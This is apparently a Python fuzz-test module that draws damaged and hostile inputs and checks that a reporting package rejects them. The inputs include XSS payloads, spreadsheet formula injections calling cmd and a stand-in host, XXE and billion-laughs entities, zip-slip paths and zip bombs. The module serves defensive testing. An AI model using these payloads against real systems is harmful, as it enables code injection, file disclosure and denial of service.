"""Damaged and hostile inputs, drawn from a seed, and what must come of each.

An input is met well if nothing is raised but an error of ours that can be told in both languages,
if what is accepted is what its file says, if nothing is written beside it, and if nothing in it is
followed or run: payloads would leave `CANARY` behind.
"""

import csv
import io
import json
import random
import tempfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import openpyxl

from icanalysis import gate, results, seal
from icanalysis.audit import file_problems
from icanalysis.errors import WorkbookError
from icanalysis.language import CODES, language
from icanalysis.load import open_data, to_frame

ROOT = Path(__file__).parents[1]
DATA = ROOT / "data"
CANARY = "canary-was-here"
TABLES = ("reported_values", "milestones", "poverty", "funds", "partners")
UNSEEN = ("\u202e", "\u2066", "\u200b", "\x00", "\x01", "\x1b[31m", "\ufeff", "\ud7ff")
PAYLOADS = (
    f"<script>document.title='{CANARY}'</script>",
    f"<img src=x onerror=\"document.title='{CANARY}'\">",
    f"<svg onload=\"document.title='{CANARY}'\"></svg>",
    f"<a href=\"javascript:document.title='{CANARY}'\">x</a>",
    "<iframe src='file:///etc/passwd'></iframe>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
    "<style>@import url(//elsewhere.example/x.css)</style>",
    "<form action=//elsewhere.example><input name=a></form>",
    "<object data=//elsewhere.example/x.swf></object>",
)
FORMULAS = (
    f"=cmd|' /C touch {CANARY}'!A0",
    f'+HYPERLINK("//elsewhere.example/{CANARY}","x")',
    f"@SUM(1+1)*cmd|' /C touch {CANARY}'!A0",
    f"-2+3+cmd|' /C touch {CANARY}'!A0",
    f'\t=WEBSERVICE("//elsewhere.example/{CANARY}")',
)
SLIPS = ("../{0}", "../../{0}", "/tmp/{0}", "a/../../{0}", "..\\{0}", "C:\\{0}", "a/./../../{0}")


@dataclass(frozen=True)
class Input:
    """A file to be met: how, and whether it is damaged or only may be."""

    kind: str
    name: str
    content: bytes
    meet: Callable[[Path], bool]  # whether anything was told of it
    must: bool  # something must be


@cache
def data():
    return open_data(DATA)


def drawn(seed: int) -> Input:
    """Draw an input."""
    rng = random.Random(seed)
    make = list(MAKERS.values())[seed % len(MAKERS)]
    return make(rng)


def trouble(given: Input, folder: Path) -> str | None:
    """Meet an input in an empty folder of its own; tell what went wrong."""
    path = folder / given.name
    path.write_bytes(given.content)
    before = path.read_bytes()
    try:
        told = given.meet(path)
    except Exception as error:
        return f"{given.kind}: {type(error).__name__}: {error!s:.200}"
    if [each.name for each in folder.rglob("*")] != [given.name]:
        return f"{given.kind}: something was written beside it"
    if path.read_bytes() != before:
        return f"{given.kind}: it was changed"
    if given.must and not told:
        return f"{given.kind}: nothing was told of it"
    for home in (folder.parent, Path.cwd(), Path("/tmp")):
        if (home / CANARY).exists():
            return f"{given.kind}: something in it was run, or written elsewhere"
    return None


# --- how they are met -------------------------------------------------------------------------


def _told(problem) -> bool:
    return all(problem.told(language(code)) for code in CODES)


def _as_table(name: str) -> Callable[[Path], bool]:
    """Send a file for a table; what is accepted must be what the file says."""

    def meet(path: Path) -> bool:
        try:
            problems = file_problems(data(), path, name)
        except WorkbookError as error:
            return _told(error)
        if problems:
            return all(map(_told, problems))
        table = data().catalog.tables[name]
        frame = to_frame(table, data().normalised(table, path))
        says = path.read_bytes() if path.suffix == ".csv" else b""
        if says:
            rows = list(csv.DictReader(io.StringIO(says.decode("utf-8-sig"))))
            assert len(rows) == len(frame), "rows were lost in silence"
            for field in table.fields:
                if field.type in ("number", "integer"):
                    written = sorted(float(row[field.name]) for row in rows if row[field.name])
                    assert written == sorted(frame[field.name].dropna().astype(float)), field.name
        return False

    return meet


def _through_gate(path: Path) -> bool:
    found = gate.findings(path, gate.Watch())
    for code in CODES:
        json.dumps([each.record(language(code)) for each in found])
    return bool(found)


def _as_bundle(path: Path) -> bool:
    try:
        problems = seal.verify(path).problems
    except WorkbookError as error:
        return _told(error)
    if not problems:  # then each file is as it was sent, and none lies outside
        with zipfile.ZipFile(path) as packed:
            names = [entry.filename for entry in packed.infolist()]
        assert not [name for name in names if ".." in name or name.startswith("/")], names
    return bool(problems)


def _as_data(name: str) -> Callable[[Path], bool]:
    """Open a data folder one of whose two descriptions is this one; tables are not touched."""

    def meet(path: Path) -> bool:
        other = "datapackage.json" if name == "evaluation.toml" else "evaluation.toml"
        beside = path.parent / other
        beside.write_bytes((DATA / other).read_bytes())
        try:
            open_data(path.parent)
        except WorkbookError as error:
            return _told(error)
        finally:
            beside.unlink()
        return False

    return meet


# --- what they are made from ------------------------------------------------------------------


@cache
def _csv(name: str) -> tuple[list[str], list[list[str]]]:
    header, *rows = csv.reader(io.StringIO(data().catalog.tables[name].path.read_text("utf-8")))
    return header, rows[:40]


def _csv_bytes(header: list[str], rows: list[list[str]]) -> bytes:
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows([header, *rows])
    return text.getvalue().encode("utf-8", "replace")


@cache
def _book(name: str) -> bytes:
    book = openpyxl.Workbook()
    header, rows = _csv(name)
    for row in [header, *rows]:
        book.active.append(row)
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


@cache
def _notebook() -> str:
    return (ROOT / "notebooks" / "explore.ipynb").read_text(encoding="utf-8")


@cache
def _page() -> str:
    """The beginning of a page of ours."""
    page = (ROOT / "reports" / "example" / "en" / "indicators.html").read_text(encoding="utf-8")
    return page[: page.index("</section>", 30_000)] + "</section></main></body></html>"


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members:
            packed.writestr(name, content)
    return made.getvalue()


@cache
def _bundle() -> tuple[tuple[str, bytes], ...]:
    with tempfile.TemporaryDirectory() as home:
        folder = Path(home) / "bundle"
        (folder / "es").mkdir(parents=True)
        (folder / "es" / "cusco.html").write_text(_page()[:20_000], encoding="utf-8")
        results.write(results.lines([]), folder / "results.csv")
        seal.write_manifest(folder, {"agency": "unesco", "run": "0" * 64})
        paths = sorted(path for path in folder.rglob("*") if path.is_file())
        names = [path.relative_to(folder.parent).as_posix() for path in paths]
        return tuple((name, path.read_bytes()) for name, path in zip(names, paths, strict=True))


def _flipped(rng: random.Random, content: bytes, times: int = 3) -> bytes:
    damaged = bytearray(content)
    for _ in range(rng.randint(1, times)):
        damaged[rng.randrange(len(damaged))] ^= 1 << rng.randrange(8)
    return bytes(damaged)


def _cut(rng: random.Random, content: bytes) -> bytes:
    return content[: rng.randrange(1, len(content) - 1)]


# --- kinds ------------------------------------------------------------------------------------


def cell_of_a_number(rng: random.Random) -> Input:
    """A number's cell that holds what is no number, or one that cannot be."""
    name = rng.choice(("reported_values", "poverty", "funds"))
    header, rows = _csv(name)
    rows = [list(row) for row in rows or [[""] * len(header)]]
    fields = [
        each for each in data().catalog.tables[name].fields if each.type in ("number", "integer")
    ]
    field = rng.choice(fields)
    bad = (
        *PAYLOADS,
        *FORMULAS,
        "12,34.5",
        "1e999",
        "nan",
        "inf",
        "--3",
        "9" * 40 + "x",
        "x" * 100_000,
    )
    bad += tuple(f"4{sign}2x" for sign in UNSEEN)
    rng.choice(rows)[header.index(field.name)] = rng.choice(bad)
    return Input("a number's cell", f"{name}.csv", _csv_bytes(header, rows), _as_table(name), True)


def structure_of_a_table(rng: random.Random) -> Input:
    """Columns missing, twice or unknown; rows too long; a region that is none; a row twice."""
    name = rng.choice(("reported_values", "poverty", "milestones"))
    header, rows = list(_csv(name)[0]), [list(row) for row in _csv(name)[1]]
    what = rng.randrange(5)
    if what == 0:
        place = header.index(data().catalog.tables[name].primary_key[0])
        header, rows = (
            header[:place] + header[place + 1 :],
            [r[:place] + r[place + 1 :] for r in rows],
        )
    elif what == 1:
        header, rows = [*header, rng.choice(header)], [[*row, "x"] for row in rows]
    elif what == 2:
        rows[rng.randrange(len(rows))].append(rng.choice([*PAYLOADS, "x"]))
    elif what == 3:
        rows.append(list(rng.choice(rows)))
    else:
        key = data().catalog.tables[name].primary_key[0]
        rng.choice(rows)[header.index(key)] = rng.choice([*PAYLOADS, *FORMULAS, "Cuzcoo \u202e"])
    return Input(
        "a table's structure", f"{name}.csv", _csv_bytes(header, rows), _as_table(name), True
    )


def bytes_of_a_table(rng: random.Random) -> Input:
    """A CSV file cut off, with bits turned over or of another encoding."""
    name = rng.choice(TABLES)
    content = _csv_bytes(*_csv(name))
    content = rng.choice([_flipped, _cut])(rng, content)
    if rng.random() < 0.3:
        content = content.decode("utf-8", "replace").encode(
            rng.choice(["utf-16", "utf-32", "cp037"]), "replace"
        )
    return Input("a table's bytes", f"{name}.csv", content, _as_table(name), False)


def bytes_of_a_workbook(rng: random.Random) -> Input:
    name = rng.choice(TABLES)
    content = rng.choice([_flipped, _cut])(rng, _book(name))
    return Input("a workbook's bytes", f"{name}.xlsx", content, _as_table(name), False)


def member_of_a_workbook(rng: random.Random) -> Input:
    """A workbook with a part gone, of nonsense, or of entities that multiply or lead outside."""
    name = rng.choice(TABLES)
    with zipfile.ZipFile(io.BytesIO(_book(name))) as packed:
        members = {each: packed.read(each) for each in packed.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<!DOCTYPE l [<!ENTITY a0 "ha">{entities}]><worksheet>&a9;</worksheet>'
    outside = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/hostname">]><worksheet>&x;</worksheet>'
    what = rng.choice([None, b"", b"<worksheet>", laughs.encode(), outside.encode()])
    chosen = sheet if what else rng.choice([sheet, "xl/workbook.xml", "[Content_Types].xml"])
    members.pop(chosen) if what is None else members.update({chosen: what})
    content = _zip(list(members.items()))
    return Input("a workbook's part", f"{name}.xlsx", content, _as_table(name), True)


def bytes_of_a_notebook(rng: random.Random) -> Input:
    content = rng.choice([_flipped, _cut])(rng, _notebook().encode())
    return Input("a notebook's bytes", "a.ipynb", content, _through_gate, False)


def payload_in_a_notebook(rng: random.Random) -> Input:
    notebook = json.loads(_notebook())
    output = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": rng.choice(PAYLOADS)},
    }
    cells = [each for each in notebook["cells"] if each["cell_type"] == "code"]
    rng.choice(cells)["outputs"].append(output)
    content = json.dumps(notebook).encode()
    return Input("a payload in a notebook", "a.ipynb", content, _through_gate, True)


def payload_in_a_page(rng: random.Random) -> Input:
    page = _page()
    place = rng.choice(
        [found for found in range(len(page) // 2, len(page)) if page[found] == "<"][:400]
    )
    while page.rfind("<style", 0, place) > page.rfind("</style", 0, place):
        place = page.index("</style>", place) + len("</style>")
    content = (page[:place] + rng.choice(PAYLOADS) + page[place:]).encode()
    return Input("a payload in a page", "a.html", content, _through_gate, True)


def formula_in_a_sheet(rng: random.Random) -> Input:
    formula = rng.choice(FORMULAS)
    if rng.random() < 0.5:
        return Input(
            "a formula", "a.csv", _csv_bytes(["x"], [["1"], [formula]]), _through_gate, True
        )
    book = openpyxl.Workbook()
    book.active["B2"] = "=" + formula.strip("\t=+@-")
    made = io.BytesIO()
    book.save(made)
    return Input("a formula", "a.xlsx", made.getvalue(), _through_gate, True)


def slip(rng: random.Random) -> Input:
    """An archive one of whose members would be written elsewhere."""
    name = rng.choice(SLIPS).format(CANARY)
    content = _zip([("a/index.html", b"<p>x</p>"), (name, b"x")])
    return Input("a zip slip", "a.zip", content, _through_gate, True)


def bomb(rng: random.Random) -> Input:
    content = _zip([("a.csv", b"0" * rng.randint(15_000_000, 30_000_000))])
    for _ in range(rng.randrange(3)):
        content = _zip([("a.zip", content)])
    return Input("a bomb", "a.zip", content, _through_gate, True)


def bundle_of_another_hand(rng: random.Random) -> Input:
    """A bundle repacked: a file changed, added, gone, twice, or to be unpacked elsewhere."""
    members = list(_bundle())
    place = next(n for n, (name, _) in enumerate(members) if name.endswith(".html"))
    name, content = members[place]
    slipped = rng.choice(SLIPS).format(CANARY)
    what = rng.randrange(5)
    if what == 0:
        members[place] = (name, _flipped(rng, content))
    elif what == 1:
        members.append((f"bundle/{rng.choice(['x.html', 'es/y.html', '.hidden'])}", b"x"))
    elif what == 2:
        del members[place]
    elif what == 3:
        members.append((name, b"other"))
    else:
        members.append((f"bundle/{slipped}", b"x"))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # that a name stands twice is meant
        packed = _zip(members)
    return Input("a bundle repacked", "bundle.zip", packed, _as_bundle, True)


def bytes_of_a_bundle(rng: random.Random) -> Input:
    content = rng.choice([_flipped, _cut])(rng, _zip(list(_bundle())))
    return Input("a bundle's bytes", "bundle.zip", content, _as_bundle, False)


def bytes_of_a_description(rng: random.Random) -> Input:
    name = rng.choice(["evaluation.toml", "datapackage.json"])
    content = rng.choice([_flipped, _cut])(rng, (DATA / name).read_bytes())
    return Input("a description's bytes", name, content, _as_data(name), False)


MAKERS = {
    make.__name__: make
    for make in (
        cell_of_a_number,
        structure_of_a_table,
        bytes_of_a_table,
        bytes_of_a_workbook,
        member_of_a_workbook,
        bytes_of_a_notebook,
        payload_in_a_notebook,
        payload_in_a_page,
        formula_in_a_sheet,
        slip,
        bomb,
        bundle_of_another_hand,
        bytes_of_a_bundle,
        bytes_of_a_description,
    )
}


def inputs(count: int, seed: int) -> Iterator[Input]:
    """Draw so many inputs, each kind as often."""
    for number in range(count):
        yield drawn(seed * 100_000 + number)
